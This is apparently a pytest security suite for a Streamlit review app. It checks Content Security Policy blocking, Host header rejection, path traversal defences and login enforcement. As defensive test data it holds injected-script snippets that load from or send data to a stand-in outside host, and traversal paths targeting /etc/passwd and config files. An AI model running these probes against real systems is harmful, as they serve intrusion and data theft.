"""Whom the pages' server lets in, and what a page in a real browser may load, run and send."""

from __future__ import annotations

import socket
import subprocess
import sys
import time
from http.client import HTTPConnection

import pytest

from audit.bench.browser import APP, escapes, settle

# One browser serves the whole file.
pytestmark = pytest.mark.xdist_group("browser")
ELSEWHERE = "http://192.0.2.1"
# What somebody tries who has got markup or a script of his own into a page: each way out of it.
WAYS_OUT = {
    "img-src": "new Image().src = `${there}/p.png`",
    "connect-src": "fetch(`${there}/?text`).catch(() => 0)",
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), {src: `${there}/s.js`}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', `<p onclick='x()'>`)",
    "style-src-elem": "document.head.insertAdjacentHTML('beforeend', `<style>@import '${there}/s.css'</style>`)",
    "font-src": "document.fonts.add(new FontFace('x', `url(${there}/f)`)); document.fonts.load('1em x').catch(() => 0)",
    "frame-src": "document.body.insertAdjacentHTML('beforeend', `<iframe src='${there}'></iframe>`)",
    "object-src": "document.body.insertAdjacentHTML('beforeend', `<object data='${there}/o'></object>`)",
    "form-action": "document.body.insertAdjacentHTML('beforeend', `<form action='${there}'></form>`), document.forms[document.forms.length - 1].submit()",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), {href: there}))",
}


def test_a_page_can_load_run_and_send_nothing_elsewhere(browser, server, store):
    from audit.bench.browser import visit

    page = visit(browser, server, "review?article=hostile", "Kim")
    page.locator(".beads-view .row").first.wait_for(timeout=60_000)
    settle(page)
    assert escapes(page) == []
    for directive, way in WAYS_OUT.items():
        page.evaluate(f"async (there) => {{ {way} }}", ELSEWHERE)
        page.wait_for_timeout(100)
        assert any(told.startswith(directive) for told in escapes(page)), directive
    page.context.close()


def asked(server, path, **headers):
    connection = HTTPConnection("localhost", server.port, timeout=20)
    connection.request("GET", path, headers=headers)
    answer = connection.getresponse()
    return answer.status, answer.read().decode("utf-8", "replace")


def test_the_server_answers_this_machine_and_has_no_file_but_its_own(server, results):
    (results / "secret.txt").write_text("a secret", encoding="utf-8")
    assert asked(server, "/")[0] == 200
    for host in ("elsewhere.example", "192.0.2.1:80", "localhost.elsewhere.example"):
        assert asked(server, "/", Host=host)[0] == 400
    up = "../" * 12
    for path in (
        f"/{up}etc/passwd", f"/static/{up}etc/passwd", f"/media/{up}etc/passwd", f"//{up}etc/passwd",
        f"/static/{up.replace('/', '%2f')}etc%2fpasswd", f"/app/static/{up}etc/passwd", "/file:///etc/passwd",
        f"/component/audit.beads/{up}etc/passwd", "/_stcore/bidi-components/audit.beads/..%2f..%2fpage.py",
        "/out/secret.txt", "/secret.txt", "/.streamlit/config.toml",
    ):  # fmt: skip
        text = asked(server, path)[1]
        assert "root:" not in text, path
        assert "a secret" not in text, path
        assert "gatherUsageStats" not in text, path
    for path in ("/_stcore/agent/interact", "/_stcore/agent/mcp"):
        assert asked(server, path)[0] in (404, 405), path


def test_an_address_names_no_article_outside_the_folder(visit, results, server):
    from audit.records.codec import to_json
    from audit.results.folder import ResultsFolder

    outside = results.parent / "outside.json"
    record = to_json(ResultsFolder(results).find("wrong"))
    outside.write_bytes(record.replace(b"728 billion", b"728 zillion"))
    for page_name in ("review", "provenance", "export"):
        page = visit(f"{page_name}?article=..%2f..%2foutside")
        settle(page)
        assert "zillion" not in page.locator("body").inner_text(), page_name


@pytest.mark.parametrize("login", [False, True])
def test_others_reach_the_pages_only_where_a_login_says_who_they_are(tmp_path, results, login):
    if login:
        (tmp_path / ".streamlit").mkdir()
        (tmp_path / ".streamlit" / "secrets.toml").write_text("[auth]\n", encoding="utf-8")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [
        sys.executable, "-m", "streamlit", "run", str(APP), "--server.headless", "true",
        "--server.address", "0.0.0.0", "--server.port", str(port), "--", str(results),
    ]  # fmt: skip
    with subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.PIPE, text=True) as process:
        if login:
            end = time.monotonic() + 60
            while True:
                try:
                    connection = HTTPConnection("127.0.0.1", port, timeout=5)
                    connection.request("GET", "/", headers={"Host": "desk.example"})
                    assert connection.getresponse().status == 200
                    break
                except OSError:
                    assert time.monotonic() < end
                    time.sleep(0.2)
            process.kill()
        told = process.stderr.read()
        assert login or process.wait(timeout=60) == 2
    assert ("open to whoever reaches 0.0.0.0: set up a login" in told) is not login
    assert "Traceback" not in told
